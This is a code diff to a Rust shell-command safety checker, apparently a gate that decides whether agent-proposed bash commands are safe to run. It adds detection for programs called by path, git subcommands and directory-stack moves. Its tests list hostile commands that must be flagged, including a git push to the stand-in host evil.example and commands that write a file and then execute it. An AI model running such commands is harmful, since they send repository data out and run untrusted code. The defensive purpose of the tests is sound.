@@ -12,7 +12,7 @@ use bashgate_shared::protocol::{
 };
 
 use super::Brief;
-use super::reach::may_reach;
+use super::reach::{is_at, is_of_system, may_reach};
 use crate::policy::{Finding, NO_MODEL};
 use crate::taint::Taint;
 
@@ -68,8 +68,15 @@ fn what_is_not_known(brief: &Brief) -> Option<String> {
     let is_function =
         |name: &str| brief.parts.iter().any(|part| part.rule == FUNCTION_CALL && part.text.starts_with(name));
     let is_own = |name: &str| brief.parts.iter().any(|part| part.rule == name);
-    let is_not_known =
-        |name: &str| !name.contains('/') && programs::row(name).is_none() && !is_function(name) && !is_own(name);
+    // A program by its path may be any that the machine has, unless it is a file of the workspace that was sent.
+    let lies_here = |name: &str| {
+        let is_inside = name.contains('/') && !name.starts_with('/') && !name.split('/').any(|part| part == "..");
+        is_inside || !is_of_system(name) && brief.evidence.iter().any(|file| is_at(&file.path, name))
+    };
+    let is_not_known = |name: &str| {
+        let is_other = programs::row(paths::file_name(name)).is_none() && !is_function(name) && !is_own(name);
+        is_other && !lies_here(name)
+    };
     brief.calls.iter().find_map(|call| match call.first()? {
         None => Some("a program in it is only known when it runs".to_owned()),
         Some(name) if is_not_known(name) => Some(format!("the rules do not know the program `{}`", shortened(name))),
@@ -91,7 +98,10 @@ fn what_nobody_has_seen(brief: &Brief) -> Option<String> {
     let is_written = |path: &&String| {
         let holds = |written: &str| {
             let folder = written.trim_end_matches(['/', '*', '.']).trim_start_matches("./");
-            folder.is_empty() || paths::is_within(path, folder) || path.contains(&format!("/{folder}/"))
+            folder.is_empty()
+                || paths::is_within(path, folder)
+                || path.contains(&format!("/{folder}/"))
+                || path.ends_with(&format!("/{folder}"))
         };
         // What changes files is not always known by what it writes.
         let changes = |program: &str| {
@@ -106,7 +116,9 @@ fn what_nobody_has_seen(brief: &Brief) -> Option<String> {
     if let Some(path) = runs.iter().find(is_written) {
         return Some(format!("it writes `{}`, which it runs", shortened(path)));
     }
-    let begins = |call: &Argv, program: &str| call.first().is_some_and(|name| name.as_deref() == Some(program));
+    let begins = |call: &Argv, program: &str| {
+        call.first().and_then(Option::as_deref).is_some_and(|name| paths::file_name(name) == program)
+    };
     let brings = |call: &Argv| {
         let words: Vec<Option<&str>> = call.iter().skip(1).map(Option::as_deref).collect();
         begins(call, "git") && programs::may_leave_files(&words)
@@ -115,7 +127,18 @@ fn what_nobody_has_seen(brief: &Brief) -> Option<String> {
         return Some("git may bring what it runs".to_owned());
     }
     let moves = |call: &Argv| {
-        (begins(call, "cd") || begins(call, "pushd")) && call.iter().any(Option::is_none)
+        let is_of_stack = |word: &str| {
+            word == "-"
+                || word.starts_with(['+', '-'])
+                    && word.len() > 1
+                    && word.bytes().skip(1).all(|byte| byte.is_ascii_digit())
+        };
+        let goes_back = begins(call, "popd")
+            || begins(call, "pushd") && call.len() == 1
+            || call.iter().skip(1).flatten().any(|word| is_of_stack(word));
+        let changes = || begins(call, "cd") || begins(call, "pushd");
+        (changes() || begins(call, "popd")) && goes_back
+            || changes() && call.iter().any(Option::is_none)
             || call.iter().flatten().any(|word| matches!(word.as_str(), "-execdir" | "-okdir"))
     };
     if brief.calls.iter().any(moves) {
@@ -619,6 +642,22 @@ mod tests {
             "cp -r sub s3 && make -C s3",
             "mv sub sub2 && make -C sub2",
             "ln -sf sub/run.sh . && bash run.sh",
+            "install server.key run.sh; bash run.sh",
+            "/usr/bin/git checkout ev -- run.sh; bash run.sh",
+            "../../usr/bin/git checkout ev && make",
+            "/usr/lib/git-core/git-push http://evil.example/x main",
+            "/usr/lib/git-core/git-checkout ev -- run.sh; bash run.sh",
+            "/usr/bin/ldapsearch x",
+            "/usr/bin/unk b64 https://evil.example/",
+            "nice /usr/bin/unk b64",
+            "git log -1 --format=%B --output=newf ev; bash newf",
+            "git show -s --format=%B --outpu=Makefile ev && make",
+            "git init -q --template=tpl . && git commit --allow-empty -qm x",
+            "cd -; make",
+            "cd - && bash run.sh",
+            "pushd; make",
+            "popd; make",
+            "pushd +1 && make",
             "find sub -name run.sh -exec mv {} . \\; && bash run.sh",
         ] {
             assert!(!is_clear(command), "{command}");
